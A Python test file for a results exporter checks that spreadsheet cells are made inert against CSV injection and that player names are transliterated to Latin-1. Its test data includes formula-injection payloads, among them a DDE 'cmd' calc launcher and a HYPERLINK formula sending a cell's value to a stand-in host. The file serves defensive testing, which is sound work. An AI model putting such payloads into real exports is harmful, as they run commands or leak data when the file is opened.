"""The text cells of exported files (core.cells, issue 35 items 8 and 9): OWASP's rule against CSV injection
(a cell a spreadsheet would read as a formula gets a single quote before it, nothing else changes), and
names written in Latin-1 for the federation's SIGLES file (letters it lacks transliterated, emoji dropped),
with the file saying which names it wrote otherwise."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.cells import inert, latin1
from core.duplicate.ranking import DuplicateStanding
from core.duplicate.results_file import sigles_file, written_name

DANGEROUS = frozenset("=+-@\t\r")  # OWASP's list, written here again rather than imported from the code under test


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("//e.x/"&B3)', '\'=HYPERLINK("//e.x/"&B3)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),  # the tab is kept: the quote goes before it
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # a spreadsheet that trims spaces would see the formula
        ("\t", "'\t"),
        ("-", "'-"),
        ("Ana", "Ana"),
        (" Ana", " Ana"),  # leading spaces kept as they are
        ("Ana=1+1", "Ana=1+1"),
        ("'=1+1", "'=1+1"),  # already text: nothing added
        ("", ""),
        ("Zoé 🎲", "Zoé 🎲"),
    ],
)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_quote(cell: str, written: str) -> None:
    assert inert(cell) == written


@given(st.text())
def test_an_inert_cell_never_begins_a_formula_and_is_the_original_after_its_quote(cell: str) -> None:
    written = inert(cell)
    assert written[:1] not in DANGEROUS
    assert written.lstrip()[:1] not in DANGEROUS
    assert written == cell or (written[0] == "'" and written[1:] == cell)
    assert inert(written) == written  # twice is once


@given(st.characters(categories=("L", "N", "P", "S")).filter(lambda c: c not in DANGEROUS), st.text())
def test_a_cell_beginning_with_anything_else_is_left_as_it_is(first: str, rest: str) -> None:
    assert inert(first + rest) == first + rest


@pytest.mark.parametrize(
    ("name", "written"),
    [
        ("Œdipe", "OEdipe"),
        ("cœur", "coeur"),
        ("Ÿvonne", "Yvonne"),  # in cp1252, not in Latin-1
        ("Łucja Wałęsa", "Lucja Walesa"),
        ("Şahin Çelik", "Sahin Çelik"),  # Ç is Latin-1: kept
        ("Erdős Pál", "Erdos Pál"),
        ("O’Neil “Bob”", 'O\'Neil "Bob"'),
        ("Jean–Paul", "Jean-Paul"),
        ("ﬁlou", "filou"),  # a compatibility ligature
        ("Zoé 🎲", "Zoé"),  # an emoji dropped, and the space it leaves
        ("🎲 Zoé  ✨ Ana", "Zoé Ana"),
        ("🎲", "?"),  # nothing left: a name all the same
        ("Иван", "?"),  # another script: dropped, documented
        ("Zoe\u0301", "Zoé"),  # a decomposed accent, composed
        ("Élodie Lefèvre", "Élodie Lefèvre"),  # Latin-1 already
        ("\t=1+1", "\t=1+1"),  # nothing Latin-1 lacks: nothing touched, leading tab included
    ],
)
def test_letters_latin_1_lacks_are_transliterated(name: str, written: str) -> None:
    assert latin1(name) == written


@given(st.text())
def test_what_latin_1_is_written_in_is_latin_1(text: str) -> None:
    written = latin1(text)
    written.encode("latin-1")  # never raises
    assert latin1(written) == written


@given(st.text(alphabet=st.characters(max_codepoint=0xFF)))
def test_latin_1_text_is_kept_as_it_is(text: str) -> None:
    assert latin1(text) == text


def test_the_sigles_file_says_which_names_it_wrote_otherwise() -> None:
    standings = [
        DuplicateStanding(1, "Œdipe", 112, 0, 100.0),
        DuplicateStanding(2, "Zoé 🎲", 98, -14, 87.5),
        DuplicateStanding(3, "=1+1", 26, -86, 23.2),
        DuplicateStanding(4, "Ana", 22, -90, 19.6),
        DuplicateStanding(5, 'Ben "le grand"', 22, -90, 19.6),
    ]
    tables = {"Œdipe": 1, "Zoé 🎲": 2, "=1+1": 3, "Ana": 4, 'Ben "le grand"': 6}
    written = sigles_file(standings, tables)
    assert written.lines == (
        '"1","OEdipe","112"',
        '"2","Zoé","98"',
        '"3","\'=1+1","26"',
        '"4","Ana","22"',
        '"5","--table vide--","-1"',  # the format's own empty table: not a name, written as Eliot does
        '"6","Ben \'le grand\'","22"',
    )
    assert written.renamed == (
        ("Œdipe", "OEdipe"),
        ("Zoé 🎲", "Zoé"),
        ("=1+1", "'=1+1"),
        ('Ben "le grand"', "Ben 'le grand'"),
    )
    assert written.data == "".join(line + "\n" for line in written.lines).encode("latin-1")
    assert b"?" not in written.data


@given(st.text(min_size=1))
def test_a_written_name_holds_one_field_in_latin_1_and_never_begins_a_formula(name: str) -> None:
    field = written_name(name)
    field.encode("latin-1")
    assert not set(field) & {'"', "\n", "\r"}
    assert field[:1] not in DANGEROUS
    assert field.lstrip()[:1] not in DANGEROUS
